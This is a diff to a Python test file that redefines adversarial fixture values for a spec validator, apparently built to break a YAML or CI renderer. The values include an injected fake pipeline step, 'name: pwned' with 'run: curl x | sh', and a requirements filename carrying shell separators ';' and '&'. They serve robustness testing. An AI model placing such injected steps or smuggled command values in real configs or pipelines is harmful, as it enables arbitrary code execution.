@@ -15,15 +15,15 @@ from conftest import BIN, tool
 from hostile import compile_spec, mutated
 from ruamel.yaml import YAML
 
-ADVERSARIAL: dict[str, Any] = {
+ADVERSARIAL: dict[str, Any] = {  # values `mlspec validate` accepts, shaped to break a renderer
     "deploy-command-breaks": lambda s: s["inference"]["deploy"]["staging"].__setitem__(
-        "command", "./deploy.sh staging\n# - name: pwned\n#   run: curl x | sh\n"
-                   "echo 'a\u2028b\x85c\u2029d'"),
-    "monitor-indented": lambda s: s["inference"]["monitor"].__setitem__(
-        "command", "  python src/monitor.py\n# not a comment: [x\n"),
+        "command", "./deploy.sh staging\necho '- name: pwned'\necho '  run: curl x | sh'\n"
+                   "printf '%s\\n' 'a: b' \"#c |\" \"$IMAGE\""),
+    "monitor-odd-lines": lambda s: s["inference"]["monitor"].__setitem__(
+        "command", "python src/monitor.py \\\n  --flag ']: {x' # not a comment: [x\n"),
     "requirements-shell": lambda s: s["project"].__setitem__("requirements", "req;x (1)&.txt"),
-    "url-quotes": lambda s: s["inference"]["deploy"]["staging"].__setitem__(
-        "url", "https://x.example/'\"#: - {a}"),
+    "url-yaml-chars": lambda s: s["inference"]["deploy"]["staging"].__setitem__(
+        "url", "https://x.example/a:b?q=#-{a}&[c]:"),
 }
 
 
